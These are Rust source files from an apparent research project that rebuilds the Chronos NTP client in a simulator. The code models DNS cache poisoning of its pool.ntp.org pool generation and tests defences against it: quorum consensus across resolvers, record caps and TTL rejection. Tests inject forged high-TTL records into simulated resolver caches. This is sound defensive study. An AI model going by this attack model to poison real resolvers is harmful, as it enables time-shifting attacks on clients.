        rejected,
        responders,
    }
}

/// Analytic capture model: with `poisoned` of `resolvers` resolvers under
/// attacker control (all reporting the attacker's addresses consistently),
/// does the attacker's record set reach the pool under `rule`?
pub fn attacker_reaches_pool(rule: ConsensusRule, resolvers: usize, poisoned: usize) -> bool {
    poisoned >= rule.quorum(resolvers)
}

/// Minimum resolvers the attacker must poison to reach the pool.
pub fn min_poisoned_resolvers(rule: ConsensusRule, resolvers: usize) -> usize {
    rule.quorum(resolvers)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a(o: u8) -> Ipv4Addr {
        Ipv4Addr::new(10, 0, 0, o)
    }

    fn evil(o: u8) -> Ipv4Addr {
        Ipv4Addr::new(198, 18, 0, o)
    }

    #[test]
    fn quorums() {
        assert_eq!(ConsensusRule::Union.quorum(5), 1);
        assert_eq!(ConsensusRule::Majority.quorum(5), 3);
        assert_eq!(ConsensusRule::Majority.quorum(4), 3);
        assert_eq!(ConsensusRule::Intersection.quorum(5), 5);
        assert_eq!(ConsensusRule::Threshold(2).quorum(5), 2);
        assert_eq!(ConsensusRule::Threshold(9).quorum(5), 5, "clamped");
    }

    #[test]
    fn union_accepts_single_poisoned_resolver() {
        // Resolver 3 is poisoned; the rest answer honestly. The benign
        // answers disagree (pool rotation!), which is exactly why Union is
        // the only rule plain rotation data can use — and why it is unsafe.
        let answers = vec![vec![a(1), a(2)], vec![a(3), a(4)], vec![evil(1), evil(2)]];
        let union = combine_round(&answers, ConsensusRule::Union);
        assert!(union.accepted.contains(&evil(1)));
        let majority = combine_round(&answers, ConsensusRule::Majority);
        assert!(majority.accepted.is_empty(), "nothing reaches 2-of-3");
    }

    #[test]
    fn majority_filters_minority_poison() {
        // With agreeing honest resolvers (e.g. DoH to the same stable
        // backend, as the DSN-W proposal assumes), majority keeps the pool
        // clean until the attacker owns a quorum.
        let honest = vec![a(1), a(2), a(3), a(4)];
        let answers = vec![honest.clone(), honest.clone(), vec![evil(1), evil(2)]];
        let round = combine_round(&answers, ConsensusRule::Majority);
        assert_eq!(round.accepted, honest);
        assert_eq!(round.rejected, vec![evil(1), evil(2)]);
        assert_eq!(round.responders, 3);
    }

    #[test]
    fn intersection_requires_unanimity() {
        let honest = vec![a(1), a(2)];
        let mut tainted = honest.clone();
        tainted.push(evil(1));
        let answers = vec![honest.clone(), tainted, honest.clone()];
        let round = combine_round(&answers, ConsensusRule::Intersection);
        assert_eq!(round.accepted, honest);
        assert_eq!(round.rejected, vec![evil(1)]);
    }

    #[test]
    fn duplicates_within_one_answer_count_once() {
        let answers = vec![vec![evil(1), evil(1), evil(1)], vec![a(1)]];
        let round = combine_round(&answers, ConsensusRule::Majority);
        assert!(round.accepted.is_empty(), "self-voting does not help");
    }

    #[test]
    fn empty_answers_are_absent_responders() {
        let answers = vec![vec![a(1)], Vec::new(), vec![a(1)]];
        let round = combine_round(&answers, ConsensusRule::Majority);
        assert_eq!(round.responders, 2);
        assert_eq!(round.accepted, vec![a(1)]);
    }

    #[test]
    fn capture_thresholds() {
        assert!(attacker_reaches_pool(ConsensusRule::Union, 5, 1));
        assert!(!attacker_reaches_pool(ConsensusRule::Majority, 5, 2));
        assert!(attacker_reaches_pool(ConsensusRule::Majority, 5, 3));
        assert!(!attacker_reaches_pool(ConsensusRule::Intersection, 5, 4));
        assert_eq!(min_poisoned_resolvers(ConsensusRule::Majority, 24), 13);
    }

    #[test]
    fn deterministic_order() {
        let answers = vec![vec![a(9), a(1)], vec![a(1), a(9)]];
        let r1 = combine_round(&answers, ConsensusRule::Majority);
        let reversed = vec![vec![a(1), a(9)], vec![a(9), a(1)]];
        let r2 = combine_round(&reversed, ConsensusRule::Majority);
        assert_eq!(r1, r2);
        assert_eq!(r1.accepted, vec![a(1), a(9)]);
    }
}
