//! Multi-resolver (consensus) pool generation — the client side of the
//! paper's recommended fix, at packet level.
//!
//! [`ConsensusPoolClient`] runs the Chronos pool-generation schedule, but
//! each round queries **every** configured resolver and admits only the
//! addresses that reach the [`ConsensusRule`] quorum. The E10 experiment
//! uses it to measure how many resolvers an attacker must poison before the
//! pool falls — and to expose the practical catch: consensus over a
//! *rotating* answer set starves the pool, because honest resolvers
//! legitimately disagree.

use crate::config::PoolGenConfig;
use crate::consensus::{combine_round, ConsensusRound, ConsensusRule};
use dnslab::client::StubResolver;
use dnslab::wire::Question;
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackEvent};
use netsim::time::SimTime;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

const TAG_ROUND: u64 = 1;

/// Counters describing client activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConsensusPoolStats {
    /// Rounds completed.
    pub rounds: u64,
    /// Total queries sent (rounds × resolvers).
    pub queries: u64,
    /// Responses received in time.
    pub responses: u64,
    /// Addresses rejected below quorum, cumulative.
    pub rejected_below_quorum: u64,
}

/// A pool-generation client querying several resolvers per round.
#[derive(Debug)]
pub struct ConsensusPoolClient {
    stack: IpStack,
    stubs: Vec<StubResolver>,
    config: PoolGenConfig,
    rule: ConsensusRule,
    round_answers: Vec<Vec<Ipv4Addr>>,
    round_open: bool,
    pool: Vec<Ipv4Addr>,
    seen: BTreeSet<Ipv4Addr>,
    round_log: Vec<ConsensusRound>,
    stats: ConsensusPoolStats,
}

impl ConsensusPoolClient {
    /// Creates a client at `addr` querying `resolvers` under `rule`.
    ///
    /// # Panics
    ///
    /// Panics if `resolvers` is empty.
    pub fn new(
        addr: Ipv4Addr,
        resolvers: Vec<Ipv4Addr>,
        rule: ConsensusRule,
        config: PoolGenConfig,
    ) -> Self {
        assert!(!resolvers.is_empty(), "need at least one resolver");
        let stubs = resolvers.iter().map(|&r| StubResolver::new(r)).collect();
        let n = resolvers.len();
        ConsensusPoolClient {
            stack: IpStack::new(addr),
            stubs,
            config,
            rule,
            round_answers: vec![Vec::new(); n],
            round_open: false,
            pool: Vec::new(),
            seen: BTreeSet::new(),
            round_log: Vec::new(),
            stats: ConsensusPoolStats::default(),
        }
    }

    /// The consensus rule in force.
    pub fn rule(&self) -> ConsensusRule {
        self.rule
    }

    /// The accumulated pool.
    pub fn pool(&self) -> &[Ipv4Addr] {
        &self.pool
    }

    /// Per-round consensus outcomes.
    pub fn round_log(&self) -> &[ConsensusRound] {
        &self.round_log
    }

    /// `true` once all configured rounds have completed.
    pub fn is_complete(&self) -> bool {
        self.round_log.len() >= self.config.queries
    }

    /// Activity counters.
    pub fn stats(&self) -> ConsensusPoolStats {
        self.stats
    }

    /// Splits the pool by a malice predicate: `(benign, malicious)`.
    pub fn composition(&self, is_malicious: impl Fn(Ipv4Addr) -> bool) -> (usize, usize) {
        let malicious = self.pool.iter().filter(|&&a| is_malicious(a)).count();
        (self.pool.len() - malicious, malicious)
    }

    fn finalize_round(&mut self, _now: SimTime) {
        if !self.round_open {
            return;
        }
        self.round_open = false;
        let outcome = combine_round(&self.round_answers, self.rule);
        self.stats.rejected_below_quorum += outcome.rejected.len() as u64;
        // Per-response mitigations apply to the *combined* answer.
        let take = self
            .config
            .max_records_per_response
            .unwrap_or(usize::MAX)
            .min(outcome.accepted.len());
        for &addr in &outcome.accepted[..take] {
            if self.seen.insert(addr) {
                self.pool.push(addr);
            }
        }
        self.round_log.push(outcome);
        self.stats.rounds += 1;
        for a in &mut self.round_answers {
            a.clear();
        }
    }

    fn start_round(&mut self, ctx: &mut Context<'_>) {
        if self.is_complete() {
            return;
        }
        self.round_open = true;
        let question = Question::a(self.config.pool_name.clone());
        for i in 0..self.stubs.len() {
            self.stats.queries += 1;
            self.stubs[i].query(ctx, &mut self.stack, question.clone(), i as u64);
        }
        ctx.set_timer(self.config.query_interval, TAG_ROUND);
    }
}

impl Node for ConsensusPoolClient {
    fn reset(&mut self) {
        self.stack.reset();
        for stub in &mut self.stubs {
            stub.reset();
        }
        for a in &mut self.round_answers {
            a.clear();
        }
        self.round_open = false;
        self.pool.clear();
        self.seen.clear();
        self.round_log.clear();
        self.stats = ConsensusPoolStats::default();
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        self.start_round(ctx);
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        for (i, stub) in self.stubs.iter_mut().enumerate() {
            if let Some(resp) = stub.handle(src, &datagram) {
                if !self.round_open {
                    return; // Straggler from a closed round.
                }
                self.stats.responses += 1;
                // Apply the TTL mitigation per resolver answer.
                let max_ttl = resp.message.answers.iter().map(|r| r.ttl).max();
                let rejected = matches!(
                    (self.config.reject_ttl_above, max_ttl),
                    (Some(limit), Some(ttl)) if ttl > limit
                );
                if !rejected {
                    self.round_answers[i] = resp.message.answer_addrs();
                }
                return;
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag != TAG_ROUND {
            return;
        }
        self.finalize_round(ctx.now());
        self.start_round(ctx);
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::resolver::{RecursiveResolver, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::zone::{pool_ntp_zone, Rotation, Zone};
    use netsim::prelude::*;
    use netsim::time::SimDuration;

    const POOL_TTL_SAFE: u32 = 150;

    struct Setup {
        world: World,
        client: NodeId,
        resolver_ids: Vec<NodeId>,
    }

    /// `stable` controls whether the zone serves a fixed answer set (the
    /// consensus-friendly deployment) or the classic rotation.
    fn setup(seed: u64, resolvers: usize, rule: ConsensusRule, stable: bool) -> Setup {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(seed);
        let zone = if stable {
            let addrs: Vec<Ipv4Addr> = (1..=4u8).map(|i| Ipv4Addr::new(10, 32, 0, i)).collect();
            Zone::new("pool.ntp.org".parse().unwrap())
                .with_synthetic_ns(2, Ipv4Addr::new(203, 0, 113, 101))
                .with_rotation(Rotation::new(addrs, 4, POOL_TTL_SAFE))
        } else {
            pool_ntp_zone(96, 2)
        };
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![zone])),
            &[ns_addr],
        );
        let mut resolver_addrs = Vec::new();
        let mut resolver_ids = Vec::new();
        for i in 0..resolvers {
            let addr = Ipv4Addr::new(198, 51, 100, 60 + i as u8);
            let mut res = RecursiveResolver::new(
                addr,
                vec![Upstream {
                    zone: "pool.ntp.org".parse().unwrap(),
                    ns_names: vec![],
                    bootstrap: vec![ns_addr],
                }],
            );
            res.allow_client(client_addr);
            resolver_ids.push(world.add_node(format!("res{i}"), Box::new(res), &[addr]));
            resolver_addrs.push(addr);
        }
        let client = world.add_node(
            "consensus-client",
            Box::new(ConsensusPoolClient::new(
                client_addr,
                resolver_addrs,
                rule,
                PoolGenConfig {
                    queries: 6,
                    query_interval: SimDuration::from_secs(200),
                    ..PoolGenConfig::default()
                },
            )),
            &[client_addr],
        );
        Setup {
            world,
            client,
            resolver_ids,
        }
    }

    fn poison_resolver(world: &mut World, id: NodeId) {
        use dnslab::cache::CacheKey;
        use dnslab::wire::Record;
        let name: dnslab::name::Name = "pool.ntp.org".parse().unwrap();
        let records: Vec<Record> = (0..89u32)
            .map(|i| {
                Record::a(
                    name.clone(),
                    Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 1)) + i),
                    86_401,
                )
            })
            .collect();
        let now = world.now();
        world.node_mut::<RecursiveResolver>(id).cache_mut().insert(
            now,
            CacheKey::a(name),
            &records,
        );
    }

    fn is_malicious(a: Ipv4Addr) -> bool {
        a.octets()[0] == 198 && a.octets()[1] == 18
    }

    #[test]
    fn majority_over_stable_zone_blocks_single_poisoned_resolver() {
        let mut s = setup(1, 3, ConsensusRule::Majority, true);
        poison_resolver(&mut s.world, s.resolver_ids[0]);
        s.world.run_for(SimDuration::from_secs(1500));
        let c = s.world.node::<ConsensusPoolClient>(s.client);
        assert!(c.is_complete());
        let (benign, malicious) = c.composition(is_malicious);
        assert_eq!(malicious, 0, "quorum filtered the poison");
        assert_eq!(benign, 4, "the stable answer set was admitted");
        assert!(c.stats().rejected_below_quorum > 0);
    }

    #[test]
    fn majority_falls_when_quorum_is_poisoned() {
        let mut s = setup(2, 3, ConsensusRule::Majority, true);
        poison_resolver(&mut s.world, s.resolver_ids[0]);
        poison_resolver(&mut s.world, s.resolver_ids[1]);
        s.world.run_for(SimDuration::from_secs(1500));
        let c = s.world.node::<ConsensusPoolClient>(s.client);
        let (_, malicious) = c.composition(is_malicious);
        assert_eq!(malicious, 89, "2-of-3 poisoned = quorum reached");
    }

    #[test]
    fn union_is_as_weak_as_one_resolver() {
        let mut s = setup(3, 3, ConsensusRule::Union, true);
        poison_resolver(&mut s.world, s.resolver_ids[2]);
        s.world.run_for(SimDuration::from_secs(1500));
        let c = s.world.node::<ConsensusPoolClient>(s.client);
        let (_, malicious) = c.composition(is_malicious);
        assert_eq!(malicious, 89);
    }

    /// The practical catch the E10 experiment reports: consensus over the
    /// classic *rotating* pool starves, because honest resolvers disagree.
    #[test]
    fn majority_over_rotating_zone_starves() {
        let mut s = setup(4, 3, ConsensusRule::Majority, false);
        s.world.run_for(SimDuration::from_secs(1500));
        let c = s.world.node::<ConsensusPoolClient>(s.client);
        assert!(c.is_complete());
        assert!(
            c.pool().len() <= 8,
            "rotation breaks consensus: only {} members",
            c.pool().len()
        );
        assert!(c.stats().rejected_below_quorum >= 24);
    }

    #[test]
    fn ttl_mitigation_composes_with_consensus() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 60);
        let mut world = World::new(5);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(16, 2)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec![],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(client_addr);
        let resolver = world.add_node("res", Box::new(res), &[resolver_addr]);
        let client = world.add_node(
            "client",
            Box::new(ConsensusPoolClient::new(
                client_addr,
                vec![resolver_addr],
                ConsensusRule::Union,
                PoolGenConfig {
                    queries: 3,
                    query_interval: SimDuration::from_secs(200),
                    reject_ttl_above: Some(3600),
                    ..PoolGenConfig::default()
                },
            )),
            &[client_addr],
        );
        poison_resolver(&mut world, resolver);
        world.run_for(SimDuration::from_secs(900));
        let c = world.node::<ConsensusPoolClient>(client);
        let (_, malicious) = c.composition(is_malicious);
        assert_eq!(malicious, 0, "TTL filter dropped the poisoned answers");
    }
}
