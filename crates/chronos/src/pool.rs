//! Chronos pool generation — the paper's "Achilles heel".
//!
//! Chronos resolves `pool.ntp.org` hourly for 24 hours and unions the
//! returned A records into its server pool (expected: 24 × 4 = 96 servers).
//! [`PoolGenerator`] implements exactly that, plus the §V mitigations:
//! capping how many addresses a single response may contribute and
//! discarding responses with suspicious TTLs.
//!
//! The struct is deliberately transparent about *what happened each round*
//! ([`PoolRound`]) because the paper's Figure 1 is precisely a timeline of
//! pool composition per round.

use crate::config::PoolGenConfig;
use dnslab::wire::Message;
use netsim::time::SimTime;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// What one DNS round contributed to the pool.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PoolRound {
    /// 1-based round number.
    pub round: usize,
    /// When the response was processed.
    pub at: SimTime,
    /// Addresses newly added to the pool this round.
    pub added: Vec<Ipv4Addr>,
    /// Addresses in the response that were already pooled.
    pub duplicates: usize,
    /// Addresses dropped by the per-response cap (mitigation a).
    pub capped: usize,
    /// Whether the whole response was rejected for a high TTL (mitigation b).
    pub rejected_high_ttl: bool,
    /// Maximum TTL seen in the response.
    pub max_ttl: u32,
    /// Total pool size after this round.
    pub pool_size: usize,
}

/// DNS-driven pool generation state machine.
#[derive(Debug, Clone)]
pub struct PoolGenerator {
    config: PoolGenConfig,
    servers: Vec<Ipv4Addr>,
    seen: BTreeSet<Ipv4Addr>,
    rounds: Vec<PoolRound>,
}

impl PoolGenerator {
    /// Creates a generator with the given configuration.
    pub fn new(config: PoolGenConfig) -> Self {
        PoolGenerator {
            config,
            servers: Vec::new(),
            seen: BTreeSet::new(),
            rounds: Vec::new(),
        }
    }

    /// The configuration in force.
    pub fn config(&self) -> &PoolGenConfig {
        &self.config
    }

    /// Forgets every gathered server and round, keeping the configuration
    /// (world-reuse support).
    pub fn reset(&mut self) {
        self.servers.clear();
        self.seen.clear();
        self.rounds.clear();
    }

    /// Rounds completed so far.
    pub fn rounds_done(&self) -> usize {
        self.rounds.len()
    }

    /// `true` once the configured number of rounds has been processed.
    pub fn is_complete(&self) -> bool {
        self.rounds.len() >= self.config.queries
    }

    /// The pool accumulated so far, in first-seen order.
    pub fn servers(&self) -> &[Ipv4Addr] {
        &self.servers
    }

    /// Pool size.
    pub fn len(&self) -> usize {
        self.servers.len()
    }

    /// `true` when no servers have been gathered.
    pub fn is_empty(&self) -> bool {
        self.servers.is_empty()
    }

    /// Per-round history (the Figure 1 timeline).
    pub fn rounds(&self) -> &[PoolRound] {
        &self.rounds
    }

    /// Processes one DNS response as the next round.
    ///
    /// Applies the mitigations, dedups against the existing pool and records
    /// a [`PoolRound`]. A round is consumed even when the response is
    /// rejected or adds nothing — Chronos cannot tell a cache hit from a
    /// fresh answer.
    pub fn record_response(&mut self, at: SimTime, response: &Message) -> &PoolRound {
        let round = self.rounds.len() + 1;
        let addrs = response.answer_addrs();
        let max_ttl = response.answers.iter().map(|r| r.ttl).max().unwrap_or(0);

        let mut rejected_high_ttl = false;
        let mut capped = 0;
        let mut added = Vec::new();
        let mut duplicates = 0;

        if let Some(limit) = self.config.reject_ttl_above {
            if max_ttl > limit {
                rejected_high_ttl = true;
            }
        }
        if !rejected_high_ttl {
            let take = self
                .config
                .max_records_per_response
                .unwrap_or(usize::MAX)
                .min(addrs.len());
            capped = addrs.len() - take;
            for addr in addrs.into_iter().take(take) {
                if self.seen.insert(addr) {
                    self.servers.push(addr);
                    added.push(addr);
                } else {
                    duplicates += 1;
                }
            }
        }
        self.rounds.push(PoolRound {
            round,
            at,
            added,
            duplicates,
            capped,
            rejected_high_ttl,
            max_ttl,
            pool_size: self.servers.len(),
        });
        self.rounds.last().expect("just pushed")
    }

    /// Records a round in which no response arrived (timeout / SERVFAIL).
    pub fn record_failure(&mut self, at: SimTime) -> &PoolRound {
        let round = self.rounds.len() + 1;
        self.rounds.push(PoolRound {
            round,
            at,
            added: Vec::new(),
            duplicates: 0,
            capped: 0,
            rejected_high_ttl: false,
            max_ttl: 0,
            pool_size: self.servers.len(),
        });
        self.rounds.last().expect("just pushed")
    }

    /// Splits the pool by a predicate identifying attacker addresses;
    /// returns `(benign, malicious)` counts.
    pub fn composition(&self, is_malicious: impl Fn(Ipv4Addr) -> bool) -> (usize, usize) {
        let malicious = self.servers.iter().filter(|&&a| is_malicious(a)).count();
        (self.servers.len() - malicious, malicious)
    }

    /// The attacker's fraction of the pool under the same predicate.
    pub fn attacker_fraction(&self, is_malicious: impl Fn(Ipv4Addr) -> bool) -> f64 {
        if self.servers.is_empty() {
            return 0.0;
        }
        let (_, malicious) = self.composition(is_malicious);
        malicious as f64 / self.servers.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::capacity::response_with_answers;
    use dnslab::name::Name;
    use dnslab::wire::{Message, Question, Record};

    fn pool_name() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    /// A benign 4-record response with the given base address and TTL 150.
    fn benign_response(base: u8) -> Message {
        let mut msg = Message::response_to(&Message::query(1, Question::a(pool_name())));
        for i in 0..4u8 {
            msg.answers
                .push(Record::a(pool_name(), Ipv4Addr::new(10, 32, base, i), 150));
        }
        msg
    }

    /// The attacker's 89-record, TTL-86401 response.
    fn attack_response() -> Message {
        let mut msg = response_with_answers(&pool_name(), 89, 86_401, true);
        // Rebase addresses into the attacker range 198.18.0.0/15 (they
        // already are, from `response_with_answers`).
        assert_eq!(msg.answer_addrs().len(), 89);
        msg.flags.response = true;
        msg
    }

    fn t(h: u64) -> SimTime {
        SimTime::from_secs(h * 3600)
    }

    fn is_malicious(a: Ipv4Addr) -> bool {
        a.octets()[0] == 198 && a.octets()[1] == 18
    }

    #[test]
    fn benign_generation_reaches_96() {
        let mut gen = PoolGenerator::new(PoolGenConfig::default());
        for round in 0..24 {
            gen.record_response(t(round as u64), &benign_response(round as u8));
        }
        assert!(gen.is_complete());
        assert_eq!(gen.len(), 96, "paper: 24 x 4 = 96 servers");
        assert_eq!(gen.rounds()[23].pool_size, 96);
        assert_eq!(gen.attacker_fraction(is_malicious), 0.0);
    }

    #[test]
    fn duplicates_do_not_grow_the_pool() {
        let mut gen = PoolGenerator::new(PoolGenConfig::default());
        gen.record_response(t(0), &benign_response(0));
        let r = gen.record_response(t(1), &benign_response(0));
        assert_eq!(r.added.len(), 0);
        assert_eq!(r.duplicates, 4);
        assert_eq!(gen.len(), 4);
    }

    /// The paper's core table: poisoning at round p yields 4·(p−1) benign +
    /// 89 malicious, frozen thereafter by the high-TTL cache entry.
    #[test]
    fn poisoning_at_round_12_gives_attacker_two_thirds() {
        let mut gen = PoolGenerator::new(PoolGenConfig::default());
        for round in 1..=24usize {
            if round < 12 {
                gen.record_response(t(round as u64), &benign_response(round as u8));
            } else {
                // Round 12: poisoned; rounds 13..24: served from cache —
                // the same 89 records again (all duplicates).
                gen.record_response(t(round as u64), &attack_response());
            }
        }
        let (benign, malicious) = gen.composition(is_malicious);
        assert_eq!(benign, 44);
        assert_eq!(malicious, 89);
        assert_eq!(gen.len(), 133);
        let f = gen.attacker_fraction(is_malicious);
        assert!(f >= 2.0 / 3.0, "fraction {f} >= 2/3");
        // Rounds 13.. added nothing.
        for r in &gen.rounds()[12..] {
            assert!(r.added.is_empty());
            assert_eq!(r.duplicates, 89);
        }
    }

    #[test]
    fn poisoning_at_round_13_is_too_late() {
        let mut gen = PoolGenerator::new(PoolGenConfig::default());
        for round in 1..=24usize {
            if round < 13 {
                gen.record_response(t(round as u64), &benign_response(round as u8));
            } else {
                gen.record_response(t(round as u64), &attack_response());
            }
        }
        let f = gen.attacker_fraction(is_malicious);
        assert!(f < 2.0 / 3.0, "fraction {f} < 2/3: attack fails");
    }

    #[test]
    fn record_cap_mitigation_limits_injection() {
        let mut gen = PoolGenerator::new(PoolGenConfig {
            max_records_per_response: Some(4),
            ..PoolGenConfig::default()
        });
        let r = gen.record_response(t(0), &attack_response());
        assert_eq!(r.added.len(), 4, "only 4 of 89 accepted");
        assert_eq!(r.capped, 85);
        assert_eq!(gen.len(), 4);
    }

    #[test]
    fn ttl_mitigation_rejects_attack_response() {
        let mut gen = PoolGenerator::new(PoolGenConfig {
            reject_ttl_above: Some(3600),
            ..PoolGenConfig::default()
        });
        let r = gen.record_response(t(0), &attack_response());
        assert!(r.rejected_high_ttl);
        assert_eq!(r.max_ttl, 86_401);
        assert!(r.added.is_empty());
        assert_eq!(gen.len(), 0);
        // Benign responses still pass.
        let r = gen.record_response(t(1), &benign_response(1));
        assert_eq!(r.added.len(), 4);
    }

    #[test]
    fn full_mitigation_bounds_attacker_to_minority() {
        let mut gen = PoolGenerator::new(PoolGenConfig::mitigated());
        for round in 1..=24usize {
            if round == 12 {
                gen.record_response(t(round as u64), &attack_response());
            } else {
                gen.record_response(t(round as u64), &benign_response(round as u8));
            }
        }
        // Attack response rejected for TTL; pool is 23 rounds x 4 benign.
        let (benign, malicious) = gen.composition(is_malicious);
        assert_eq!(malicious, 0);
        assert_eq!(benign, 92);
    }

    #[test]
    fn failed_rounds_consume_attempts() {
        let mut gen = PoolGenerator::new(PoolGenConfig {
            queries: 3,
            ..PoolGenConfig::default()
        });
        gen.record_response(t(0), &benign_response(0));
        gen.record_failure(t(1));
        gen.record_response(t(2), &benign_response(2));
        assert!(gen.is_complete());
        assert_eq!(gen.len(), 8);
        assert_eq!(gen.rounds()[1].added.len(), 0);
    }

    #[test]
    fn composition_is_stable_and_ordered() {
        let mut gen = PoolGenerator::new(PoolGenConfig::default());
        gen.record_response(t(0), &benign_response(0));
        gen.record_response(t(1), &attack_response());
        let first_four: Vec<_> = gen.servers()[..4].to_vec();
        assert!(first_four.iter().all(|&a| !is_malicious(a)));
        assert_eq!(gen.servers().len(), 93);
    }
}
