//! Chronos parameters (NDSS'18 §4, defaults per the papers).

use dnslab::name::Name;
use netsim::time::SimDuration;
use serde::{Deserialize, Serialize};

/// Pool-generation settings (the mechanism the DSN paper attacks).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PoolGenConfig {
    /// Name queried to gather servers.
    pub pool_name: Name,
    /// Number of DNS queries (paper: 24).
    pub queries: usize,
    /// Interval between queries (paper: hourly).
    pub query_interval: SimDuration,
    /// §V mitigation (a): accept at most this many addresses from a single
    /// response (`None` = unlimited, the vulnerable original behaviour).
    pub max_records_per_response: Option<usize>,
    /// §V mitigation (b): discard entire responses carrying any record with
    /// TTL above this bound (`None` = accept all).
    pub reject_ttl_above: Option<u32>,
}

impl Default for PoolGenConfig {
    fn default() -> Self {
        PoolGenConfig {
            pool_name: "pool.ntp.org".parse().expect("static name"),
            queries: 24,
            query_interval: SimDuration::from_hours(1),
            max_records_per_response: None,
            reject_ttl_above: None,
        }
    }
}

impl PoolGenConfig {
    /// The §V-hardened variant: at most 4 addresses per response, responses
    /// with TTL > 3600 s discarded.
    pub fn mitigated() -> Self {
        PoolGenConfig {
            max_records_per_response: Some(4),
            reject_ttl_above: Some(3600),
            ..PoolGenConfig::default()
        }
    }
}

/// Full Chronos client configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ChronosConfig {
    /// Servers sampled per poll (m).
    pub sample_size: usize,
    /// Samples trimmed from each end (d; the papers use m/3).
    pub trim: usize,
    /// Agreement bound ω: surviving offsets must lie within this span.
    pub omega: SimDuration,
    /// Base error envelope (ERR): an accepted average must be within
    /// `ERR + drift·Δt` of the local clock.
    pub err: SimDuration,
    /// Assumed drift bound used to grow the envelope (ppm).
    pub drift_ppm: f64,
    /// Resampling attempts (K) before entering panic mode.
    pub max_retries: u32,
    /// Poll cadence once the pool is ready.
    pub poll_interval: SimDuration,
    /// Window to wait for server replies each poll.
    pub response_window: SimDuration,
    /// Pool generation settings.
    pub pool: PoolGenConfig,
}

impl Default for ChronosConfig {
    fn default() -> Self {
        ChronosConfig {
            sample_size: 15,
            trim: 5,
            omega: SimDuration::from_millis(25),
            err: SimDuration::from_millis(100),
            drift_ppm: 30.0,
            max_retries: 3,
            poll_interval: SimDuration::from_secs(64),
            response_window: SimDuration::from_secs(1),
            pool: PoolGenConfig::default(),
        }
    }
}

impl ChronosConfig {
    /// Number of samples surviving the trim.
    pub fn survivors(&self) -> usize {
        self.sample_size.saturating_sub(2 * self.trim)
    }

    /// Validates internal consistency.
    ///
    /// # Panics
    ///
    /// Panics if the trim leaves no survivors or the sample size is zero.
    pub fn validate(&self) {
        assert!(self.sample_size > 0, "sample_size must be positive");
        assert!(
            self.survivors() > 0,
            "trim {} leaves no survivors of {} samples",
            self.trim,
            self.sample_size
        );
        assert!(self.pool.queries > 0, "pool generation needs queries");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_match_the_papers() {
        let cfg = ChronosConfig::default();
        assert_eq!(cfg.sample_size, 15);
        assert_eq!(cfg.trim, 5, "d = m/3");
        assert_eq!(cfg.survivors(), 5);
        assert_eq!(cfg.pool.queries, 24);
        assert_eq!(cfg.pool.query_interval, SimDuration::from_hours(1));
        assert_eq!(cfg.pool.max_records_per_response, None);
        cfg.validate();
    }

    #[test]
    fn mitigated_pool_config() {
        let m = PoolGenConfig::mitigated();
        assert_eq!(m.max_records_per_response, Some(4));
        assert_eq!(m.reject_ttl_above, Some(3600));
        assert_eq!(m.queries, 24);
    }

    #[test]
    #[should_panic(expected = "leaves no survivors")]
    fn over_trimming_is_rejected() {
        let cfg = ChronosConfig {
            sample_size: 6,
            trim: 3,
            ..ChronosConfig::default()
        };
        cfg.validate();
    }
}
