//! # chronos — the Chronos NTP client (NDSS'18), rebuilt
//!
//! Chronos hardens NTP clients with three mechanisms, all implemented here:
//!
//! 1. **A large server pool gathered via DNS** ([`pool`]): `pool.ntp.org`
//!    resolved hourly for 24 hours, 4 addresses per response → 96 servers.
//!    This is the mechanism the DSN-S 2020 paper attacks.
//! 2. **Randomized sampling with provably secure selection** ([`select`]):
//!    sample m servers, trim d = m/3 from each end, require ω-agreement and
//!    a drift envelope.
//! 3. **Panic mode**: after K rejected samples, query the whole pool and
//!    take the trimmed (by thirds) mean.
//!
//! [`analysis`] reproduces the security bound ("~20 years to shift a client
//! by 100 ms") and its collapse at an attacker pool-fraction of 2/3; the §V
//! mitigations (record cap, TTL rejection) are config switches on
//! [`config::PoolGenConfig`].
//!
//! *(Workspace map: see `ARCHITECTURE.md` at the repo root — crate-by-crate
//! architecture, the data-flow diagram, and the determinism contract.)*

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod analysis;
pub mod client;
pub mod config;
pub mod consensus;
pub mod core;
pub mod multipath;
pub mod pool;
pub mod select;

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::analysis::{
